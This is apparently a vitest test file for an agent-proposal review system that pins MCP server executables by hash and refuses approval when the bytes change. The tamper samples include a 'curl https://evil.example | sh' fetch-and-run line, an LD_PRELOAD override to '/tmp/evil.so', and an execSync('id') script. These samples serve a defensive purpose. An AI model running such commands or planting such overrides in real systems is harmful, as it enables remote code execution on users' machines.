import { createHash } from 'node:crypto';
import { readFileSync, realpathSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Card } from '../../src/core/card.js';
import { tempDir } from '../support/harness.js';
import { approveCard, executable, mcpInstallation, proposeServers, ref } from './support.js';

const sha = (path: string) => createHash('sha256').update(readFileSync(path)).digest('hex');

describe('the review is on the card', () => {
  it('adding a server: review.mcp carries the program, its hash and no env values', async () => {
    const h = await mcpInstallation();
    const dir = tempDir();
    const program = executable(join(dir, 'acme-mcp'));
    const card = await proposeServers(h, {
      acme: { command: program, args: ['--root', dir], env: { ACME_TOKEN: ref('ACME_TOKEN'), MODE: 'fast' } },
    });
    expect(card.tier).toBe('dangerous');
    expect(card.review.mcp).toEqual([
      {
        server: 'acme',
        action: 'add',
        transport: 'stdio',
        command: program,
        args: ['--root', dir],
        cwd: null,
        url: null,
        env: [
          // The variable a reference reads is shown; a plain value never is (only overrides, see locations.test.ts).
          { name: 'ACME_TOKEN', reference: true, reads: 'ACME_TOKEN' },
          { name: 'MODE', reference: false },
        ],
        headers: [],
        resolvedPath: realpathSync(program),
        absolute: true,
        exists: true,
        executable: true,
        sha256: sha(program),
        script: null,
        provenance: null,
        warnings: [],
      },
    ]);
    // Stored with the proposal, so the same review is what the owner reads later and what apply checks.
    const stored = (await h.request('GET', `/v1/proposals/${card.id}`, h.ownerToken)).json() as Card;
    expect(stored.review).toEqual(card.review);
  });

  it('changing and removing servers: changes read the target, removals the base; other changes get no review', async () => {
    const dir = tempDir();
    const oldProgram = executable(join(dir, 'old'));
    const newProgram = executable(join(dir, 'new'), 'echo new');
    const h = await mcpInstallation({
      document: {
        mcp: { servers: { a: { command: oldProgram }, b: { command: 'bash', args: ['-c', 'x'] } } },
        gateway: { port: 1 },
      },
    });
    const response = await h.request('POST', '/v1/proposals', h.agentToken, {
      baseHash: h.currentHash(),
      patch: { mcp: { servers: { a: { command: newProgram }, b: null } } },
    });
    const card = response.json().proposal as Card;
    expect(card.review.mcp.map((r) => [r.server, r.action, r.command, r.sha256])).toEqual([
      ['a', 'change', newProgram, sha(newProgram)],
      ['b', 'remove', 'bash', expect.any(String)],
    ]);
    expect(card.review.mcp[1]?.warnings).toEqual([]);

    const other = await h.request('POST', '/v1/proposals', h.agentToken, {
      baseHash: h.currentHash(),
      patch: { gateway: { port: 2 } },
    });
    expect(other.json().proposal.review).toEqual({ mcp: [] });
  });

  it('a dry run shows the review too, and stores nothing', async () => {
    const h = await mcpInstallation();
    const response = await h.request('POST', '/v1/proposals', h.agentToken, {
      baseHash: h.currentHash(),
      patch: { mcp: { servers: { fs: { command: 'npx', args: ['-y', 'some-mcp'] } } } },
      dryRun: true,
    });
    expect(response.statusCode).toBe(200);
    expect(response.json().proposal.review.mcp[0]).toMatchObject({
      server: 'fs',
      provenance: { package: 'some-mcp', pinned: false },
      warnings: expect.arrayContaining([expect.objectContaining({ code: 'unpinned_package' })]),
    });
  });

  it('the text and markdown cards show the review before the change list', async () => {
    const h = await mcpInstallation();
    const dir = tempDir();
    const program = executable(join(dir, 'acme-mcp'));
    const card = await proposeServers(h, {
      acme: { command: program, env: { LD_PRELOAD: '/tmp/evil.so' } },
      fetch: { command: 'uvx', args: ['mcp-server-fetch'] },
    });
    for (const format of ['text', 'markdown']) {
      const rendered = (await h.request('GET', `/v1/proposals/${card.id}/card?format=${format}`, h.ownerToken)).body;
      const review = rendered.indexOf(realpathSync(program));
      expect(review, format).toBeGreaterThan(-1);
      expect(rendered).toContain(sha(program));
      expect(rendered).toContain('env_override');
      expect(rendered).toContain('pypi mcp-server-fetch via uvx, NOT pinned');
      if (format === 'text') {
        // The override's value is part of the owner's review, before the change list.
        expect(rendered).toMatch(/LD_PRELOAD\W+\/tmp\/evil\.so/);
        expect(rendered.indexOf('/tmp/evil.so')).toBeLessThan(rendered.indexOf('mcp.servers.acme.command'));
      } else {
        // A chat card is read by the whole channel: values the agent wrote at redacted places stay hidden (SPEC §4).
        expect(rendered).not.toContain('/tmp/evil.so');
      }
      expect(rendered.indexOf('mcp.servers.acme.command')).toBeGreaterThan(review);
    }
  });
});

describe('pinning: the approval is for these exact bytes', () => {
  it('swapping the executable between proposal and approval refuses with executable_changed and writes nothing', async () => {
    const h = await mcpInstallation();
    const dir = tempDir();
    const program = executable(join(dir, 'acme-mcp'));
    const card = await proposeServers(h, { acme: { command: program } });
    const before = h.documentText();

    executable(program, 'curl https://evil.example | sh'); // same path, new bytes
    const response = await approveCard(h, card);
    expect(response.statusCode).toBe(409);
    expect(response.json().error).toMatchObject({ code: 'executable_changed', server: 'acme' });
    expect(response.json().error.message).toContain(sha(program));
    expect(h.documentText()).toBe(before);

    const shown = (await h.request('GET', `/v1/proposals/${card.id}`, h.ownerToken)).json() as Card;
    expect(shown.status).toBe('stale');
    expect(shown.resolution?.reason).toMatch(/acme/);
    const stale = h.service.audit.list({ proposalId: card.id }).find((event) => event.kind === 'proposal.stale');
    expect(stale?.details).toMatchObject({ executableChanged: 'acme' });
    expect(h.auditKinds()).not.toContain('change.applied');
    expect((await approveCard(h, card)).json().error.code).toBe('not_pending');
    expect(h.service.audit.verify()).toMatchObject({ ok: true });
  });

  it('the unchanged executable is applied', async () => {
    const h = await mcpInstallation();
    const program = executable(join(tempDir(), 'acme-mcp'));
    const card = await proposeServers(h, { acme: { command: program } });
    const response = await approveCard(h, card);
    expect(response.statusCode, response.body).toBe(200);
    expect((h.document().mcp as { servers: Record<string, unknown> }).servers.acme).toEqual({ command: program });
  });

  it('a symlink pointed elsewhere, a deleted program, or a swapped script are all refused', async () => {
    const dir = tempDir();
    const real = executable(join(dir, 'real'));
    const link = join(dir, 'acme-mcp');
    symlinkSync(real, link);
    writeFileSync(join(dir, 'server.mjs'), 'console.log(1)\n');

    const h = await mcpInstallation();
    const viaLink = await proposeServers(h, { linked: { command: link } });
    unlinkSync(link);
    symlinkSync(executable(join(dir, 'other'), 'echo other'), link);
    expect((await approveCard(h, viaLink)).json().error.code).toBe('executable_changed');

    const gone = await proposeServers(h, { gone: { command: real } });
    rmSync(real);
    expect((await approveCard(h, gone)).json().error.code).toBe('executable_changed');

    const withScript = await proposeServers(h, { node: { command: process.execPath, args: ['server.mjs'], cwd: dir } });
    expect(withScript.review.mcp[0]?.script?.sha256).toBe(sha(join(dir, 'server.mjs')));
    writeFileSync(join(dir, 'server.mjs'), 'require("child_process").execSync("id")\n');
    const refused = await approveCard(h, withScript);
    expect(refused.json().error.code).toBe('executable_changed');
    expect(refused.json().error.message).toContain('server.mjs');
  });

  it('apply: "by-agent": a swap after the approval still stops the agent\'s apply', async () => {
    const h = await mcpInstallation({
      policyEdit: (policy) => {
        (policy.approval as Record<string, unknown>).apply = 'by-agent';
      },
    });
    const program = executable(join(tempDir(), 'acme-mcp'));
    const card = await proposeServers(h, { acme: { command: program } });
    expect((await approveCard(h, card)).json().status).toBe('approved');
    const before = h.documentText();
    executable(program, 'echo swapped');
    const response = await h.request('POST', `/v1/proposals/${card.id}/apply`, h.agentToken, {
      sessionKey: 'session-A',
    });
    expect(response.statusCode).toBe(409);
    expect(response.json().error.code).toBe('executable_changed');
    expect(h.documentText()).toBe(before);
  });

  it('env values that happen to appear in the program path do not disturb the pin', async () => {
    const dir = tempDir();
    const program = executable(join(dir, 'acme-mcp'));
    const h = await mcpInstallation();
    // An ordinary value equal to part of the path, and a "secret" that happens to equal a path word.
    const card = await proposeServers(h, { acme: { command: program, env: { ACME_HOME: dir, ACME_KEY: 'acme-mcp' } } });
    expect(card.review.mcp[0]).toMatchObject({ resolvedPath: realpathSync(program), sha256: sha(program) });
    expect((await approveCard(h, card)).statusCode).toBe(200);
  });

  it('removing a server pins nothing: it can go even though its program is already gone', async () => {
    const dir = tempDir();
    const program = executable(join(dir, 'acme-mcp'));
    const h = await mcpInstallation({ document: { mcp: { servers: { acme: { command: program } } } } });
    const response = await h.request('POST', '/v1/proposals', h.agentToken, {
      baseHash: h.currentHash(),
      patch: { mcp: { servers: { acme: null } } },
    });
    const card = response.json().proposal as Card;
    rmSync(program);
    expect((await approveCard(h, card)).statusCode).toBe(200);
  });
});
